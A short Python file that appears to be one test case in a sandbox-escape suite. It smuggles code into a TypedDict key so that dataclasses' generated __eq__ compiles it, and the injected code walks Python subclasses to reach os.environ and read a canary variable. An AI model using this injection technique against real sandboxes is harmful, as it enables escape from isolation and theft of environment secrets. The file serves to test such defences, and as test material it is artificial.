"""No app makes a library compile code: not by the key of a typed dict."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("dataclasses", "typing")


import dataclasses
import typing

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return value


Keys = typing.TypedDict("Keys", {"x, " + CODE: int})


class Plain:
    x = 1


def attack():
    class Evil(Keys):
        pass

    dataclasses.dataclass(init=False, repr=False, match_args=False)(Evil)
    Evil.__eq__(Plain(), Plain())
    return "ESCAPED: " + found[0]
